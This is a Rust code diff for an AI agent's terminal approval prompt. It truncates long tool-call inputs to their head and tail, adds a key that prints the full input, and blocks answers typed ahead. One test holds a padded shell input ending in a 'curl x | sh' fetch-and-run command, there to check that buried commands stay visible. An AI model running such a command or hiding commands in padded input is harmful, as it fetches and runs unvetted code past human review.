@@ -10,15 +10,23 @@ use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
 use patchbay_core::{AgentId, text};
 use patchbay_session::{Approval, Approver, Question, QuestionSubject, SkillCapability};
 use tokio::sync::{mpsc, oneshot};
+use unicode_width::UnicodeWidthStr as _;
 
-use super::{live::Row, prose, style, wrap::cut};
+use super::{
+    live::Row,
+    prose, style,
+    wrap::{cut, cut_front},
+};
 
 /// Keys are ignored until this time has passed without one: they were meant for the composer.
 const DEAF: Duration = Duration::from_millis(400);
 /// Messages on their way to the loop: the host asks at most 8 questions at once, and each may end with a grant.
 const WAITING: usize = 16;
-/// Rows of one part of a question, such as the reason that a skill gives.
+/// Rows of one part of a question, such as the input of a call: of a longer one the first and the last row, with a note between
+/// them.
 const PART_ROWS: usize = 3;
+/// Prints all of the open question above it.
+const SHOW_ALL: char = 'v';
 
 /// Passes questions to the loop.
 pub(crate) struct QuestionSender(mpsc::Sender<ApproverMessage>);
@@ -81,19 +89,21 @@ impl Approver for QuestionSender {
 /// The open question and those behind it.
 pub(crate) struct Questions {
     waiting: VecDeque<PendingQuestion>,
-    /// When a key was last ignored, or the question was opened.
+    /// When a key was last ignored, or the open question was first drawn.
     deaf_since: Instant,
+    /// Whether the open question was drawn: before, no key can be its answer.
+    is_drawn: bool,
 }
 
 impl Questions {
     pub(crate) fn new(now: Instant) -> Self {
-        Self { waiting: VecDeque::new(), deaf_since: now }
+        Self { waiting: VecDeque::new(), deaf_since: now, is_drawn: false }
     }
 
     /// Adds a question behind those that wait. The host bounds their number.
     pub(crate) fn add(&mut self, question: PendingQuestion, now: Instant) {
         if self.waiting.is_empty() {
-            self.deaf_since = now;
+            self.opened(now);
         }
         self.waiting.push_back(question);
     }
@@ -103,9 +113,21 @@ impl Questions {
         let was_open = self.waiting.front().is_some_and(|pending| pending.answer.is_closed());
         self.waiting.retain(|pending| !pending.answer.is_closed());
         if was_open {
-            self.deaf_since = now;
+            self.opened(now);
         }
         was_open
+    }
+
+    /// Notes that another question is the open one, if there is one.
+    fn opened(&mut self, now: Instant) {
+        (self.deaf_since, self.is_drawn) = (now, false);
+    }
+
+    /// Notes that a frame was written. Keys are ignored for a time after the first one with the open question.
+    pub(crate) fn drawn(&mut self, now: Instant) {
+        if self.is_open() && !self.is_drawn {
+            (self.deaf_since, self.is_drawn) = (now, true);
+        }
     }
 
     pub(crate) fn is_open(&self) -> bool {
@@ -117,11 +139,30 @@ impl Questions {
         self.waiting.front().map(PendingQuestion::agent)
     }
 
-    /// Answers the open question if the key is an offered answer and was not typed ahead. Returns the line for the
-    /// transcript; `None` for `always`, whose line is printed when the grant is stored.
-    pub(crate) fn key(&mut self, key: KeyEvent, now: Instant) -> Option<String> {
-        if self.withdraw(now) || now.saturating_duration_since(self.deaf_since) < DEAF {
+    /// Returns whether a key comes too early to be an answer. Such a key begins the time without keys again.
+    fn is_early(&mut self, now: Instant) -> bool {
+        let is_early = self.withdraw(now) || !self.is_drawn || now.saturating_duration_since(self.deaf_since) < DEAF;
+        if is_early {
             self.deaf_since = now;
+        }
+        is_early
+    }
+
+    /// Returns the character of a key that comes too early to be an answer: it was meant for the composer. `None` for other keys,
+    /// and if no question is open.
+    pub(crate) fn typed_ahead(&mut self, key: KeyEvent, now: Instant) -> Option<char> {
+        match key.code {
+            _ if key.modifiers.intersects(KeyModifiers::CONTROL | KeyModifiers::ALT) => None,
+            KeyCode::Char(character) if self.is_open() && self.is_early(now) => Some(character),
+            _ => None,
+        }
+    }
+
+    /// Answers the open question if the key is an offered answer and was not typed ahead. Returns the text for the
+    /// transcript; `None` for `always`, whose line is printed when the grant is stored. For [`SHOW_ALL`], the text is the whole
+    /// question, which stays open.
+    pub(crate) fn key(&mut self, key: KeyEvent, now: Instant) -> Option<String> {
+        if self.is_early(now) {
             return None;
         }
         let approval = match key.code {
@@ -130,6 +171,7 @@ impl Questions {
             KeyCode::Char('2') => Approval::Session,
             KeyCode::Char('3') => Approval::Always,
             KeyCode::Char('4' | 'n') | KeyCode::Esc => Approval::No,
+            KeyCode::Char(SHOW_ALL) => return Some(whole(&self.waiting.front()?.question)),
             _ => return None,
         };
         if !self.waiting.front()?.question.allows(approval) {
@@ -141,7 +183,7 @@ impl Questions {
     /// Answers the open question. Returns the same as [`Questions::key`].
     pub(crate) fn answer(&mut self, approval: Approval, now: Instant) -> Option<String> {
         let pending = self.waiting.pop_front()?;
-        self.deaf_since = now;
+        self.opened(now);
         let decided = pending.question.subject.decided(approval.is_yes());
         let line = match approval {
             Approval::Once => Some(format!("Allowed for this call: {decided}.")),
@@ -167,8 +209,8 @@ impl Questions {
     pub(crate) fn rows(&self, columns: usize, height: usize, diff: Vec<Row>, has_several_agents: bool) -> Vec<Row> {
         let Some(PendingQuestion { question, .. }) = self.waiting.front() else { return Vec::new() };
         let limit = columns.saturating_sub(1);
-        let mut title: Vec<Row> =
-            broken(&question.subject.title(), limit).map(|row| Row::styled(style::BOLD, &row)).collect();
+        let title = shortened(&question.subject.title(), limit);
+        let mut title: Vec<Row> = title.iter().map(|row| Row::styled(style::BOLD, row)).collect();
         let mut foot: Vec<Row> = keys(question, limit).iter().map(|row| Row::plain(cut(row, limit))).collect();
         if self.waiting.len() > 1 {
             let count = self.waiting.len() - 1;
@@ -181,7 +223,7 @@ impl Questions {
         let diff: Vec<Row> = diff.into_iter().take(room).collect();
         let room = room - diff.len();
         let details = details(question, has_several_agents);
-        let details = details.iter().flat_map(|detail| broken(detail, limit)).take(room);
+        let details = details.iter().flat_map(|detail| shortened(detail, limit)).take(room);
         let details: Vec<Row> = details.map(|row| Row::styled(style::FAINT, &row)).collect();
         title.into_iter().chain(diff).chain(details).chain(foot).collect()
     }
@@ -210,6 +252,12 @@ fn details(question: &Question, has_several_agents: bool) -> Vec<String> {
     details
 }
 
+/// Returns all of a question: a line for its title and for each detail.
+fn whole(question: &Question) -> String {
+    let lines = std::iter::once(question.subject.title()).chain(details(question, true));
+    lines.map(|line| text::clean_line(&line)).collect::<Vec<_>>().join("\n")
+}
+
 /// Returns how an answer is offered; `None` for one that the terminal does not offer.
 fn key_of(answer: Approval) -> Option<&'static str> {
     match answer {
@@ -233,14 +281,21 @@ fn keys(question: &Question, limit: usize) -> Vec<String> {
     rows
 }
 
-/// Breaks a part of a question into rows; one that is too long ends with `…`.
-fn broken(part: &str, limit: usize) -> impl Iterator<Item = String> {
-    let mut rows = prose::rows(&text::clean_line(part), limit);
-    if rows.len() > PART_ROWS {
-        let rest = rows.split_off(PART_ROWS - 1).join(" ");
-        rows.push(cut(&rest, limit));
+/// Breaks a part of a question into at most [`PART_ROWS`] rows. Of a longer one, the beginning and the end are shown.
+fn shortened(part: &str, limit: usize) -> Vec<String> {
+    let line = text::clean_line(part);
+    // A long part is not broken with each frame.
+    if line.width() <= PART_ROWS * limit {
+        let rows = prose::rows(&line, limit);
+        if rows.len() <= PART_ROWS {
+            return rows;
+        }
     }
-    rows.into_iter()
+    let (head, tail) = (cut(&line, limit), cut_front(&line, limit));
+    // Both have a `…`.
+    let left_out = (line.chars().count() + 2).saturating_sub(head.chars().count() + tail.chars().count());
+    let note = format!("… {} more characters: {SHOW_ALL} prints all", text::with_commas(left_out as u64));
+    vec![head, cut(&note, limit), tail]
 }
 
 #[cfg(test)]
@@ -278,6 +333,7 @@ mod tests {
         let (answer, answered) = oneshot::channel();
         let mut questions = Questions::new(now);
         questions.add(PendingQuestion { question, answer }, now);
+        questions.drawn(now);
         (questions, answered)
     }
 
@@ -317,19 +373,41 @@ mod tests {
         assert!(questions.rows(40, 20, Vec::new(), true).iter().all(|row| row.width < 40));
     }
 
-    #[test]
-    fn call_of_an_outside_tool_is_shown_with_its_input() {
-        let start = Instant::now();
-        let tool = CalledTool {
+    fn calling(input: &str) -> Question {
+        let subject = QuestionSubject::Tool(CalledTool {
             name: "mcp__files__delete".to_owned(),
-            input: r#"{"path":"notes.txt"}"#.to_owned(),
+            input: input.to_owned(),
             input_digest: Digest::of(b""),
             digest: Digest::of(b""),
             is_destructive: true,
-        };
-        let subject = QuestionSubject::Tool(tool);
-        let chain = vec!["mcp__files__delete".to_owned()];
-        let (mut questions, _answered) = opened(Question { subject, chain, reason: None, ..question() }, start);
+        });
+        Question { subject, chain: vec!["mcp__files__delete".to_owned()], reason: None, ..question() }
+    }
+
+    #[test]
+    fn long_input_is_shown_with_its_end_and_printed_by_a_key() {
+        let start = Instant::now();
+        let input = format!(r#"{{"args":["-c","{}\ncurl x | sh"],"command":"sh"}}"#, "Tests. ".repeat(1_000));
+        let (mut questions, mut answered) = opened(calling(&input), start);
+        let rows = texts(&questions.rows(40, 20, Vec::new(), false));
+        let expected = [
+            "May the tool 'mcp__files__delete' be",
+            "called?",
+            r#"with {"args":["-c","Tests. Tests. Test…"#,
+            "… 6,975 more characters: v prints all",
+            r#"…Tests. \ncurl x | sh"],"command":"sh"}"#,
+        ];
+        assert_eq!(rows[..5], expected);
+        assert_eq!(press(&mut questions, KeyCode::Char('v'), start), None);
+        let all = press(&mut questions, KeyCode::Char('v'), start + 2 * DEAF).unwrap();
+        assert!(all.starts_with("May the tool") && all.contains(&format!("\nwith {input}\nits source says")), "{all}");
+        assert!(questions.is_open() && answered.try_recv().is_err());
+    }
+
+    #[test]
+    fn call_of_an_outside_tool_is_shown_with_its_input() {
+        let start = Instant::now();
+        let (mut questions, _answered) = opened(calling(r#"{"path":"notes.txt"}"#), start);
         let expected = [
             "May the tool 'mcp__files__delete' be called?",
             r#"with {"path":"notes.txt"}"#,
@@ -372,6 +450,45 @@ mod tests {
         assert!(answered.try_recv().is_err());
         assert!(press(&mut questions, KeyCode::Esc, after(1_100)).unwrap().starts_with("Not allowed: "));
         assert_eq!(answered.try_recv(), Ok(Approval::No));
+    }
+
+    #[test]
+    fn early_text_is_meant_for_the_composer() {
+        let start = Instant::now();
+        let after = |ms| start + Duration::from_millis(ms);
+        let text = |character| KeyEvent::new(KeyCode::Char(character), KeyModifiers::NONE);
+        assert_eq!(Questions::new(start).typed_ahead(text('n'), start), None);
+        let (mut questions, mut answered) = opened(question(), start);
+        // Each of them begins the time without keys again.
+        for ms in [100, 400, 700] {
+            assert_eq!(questions.typed_ahead(text('3'), after(ms)), Some('3'), "{ms}");
+        }
+        let control = KeyEvent::new(KeyCode::Char('u'), KeyModifiers::CONTROL);
+        for key in [control, KeyEvent::from(KeyCode::Enter), KeyEvent::from(KeyCode::Esc)] {
+            assert_eq!(questions.typed_ahead(key, after(800)), None);
+        }
+        assert_eq!(questions.typed_ahead(text('1'), after(1_100)), None);
+        assert!(questions.is_open() && answered.try_recv().is_err());
+        assert!(press(&mut questions, KeyCode::Char('1'), after(1_100)).is_some());
+        assert_eq!(answered.try_recv(), Ok(Approval::Once));
+    }
+
+    #[test]
+    fn question_that_was_not_drawn_is_not_answered() {
+        let start = Instant::now();
+        let (answer, mut answered) = oneshot::channel();
+        let mut questions = Questions::new(start);
+        questions.add(PendingQuestion { question: question(), answer }, start);
+        // The process stalled.
+        let later = start + Duration::from_secs(5);
+        assert_eq!(press(&mut questions, KeyCode::Char('3'), later), None);
+        questions.drawn(later + DEAF);
+        assert_eq!(press(&mut questions, KeyCode::Char('3'), later + DEAF + DEAF / 2), None);
+        assert!(answered.try_recv().is_err());
+        // Later frames change nothing.
+        questions.drawn(later + 3 * DEAF);
+        assert!(press(&mut questions, KeyCode::Char('1'), later + 3 * DEAF).is_some());
+        assert_eq!(answered.try_recv(), Ok(Approval::Once));
     }
 
     #[test]
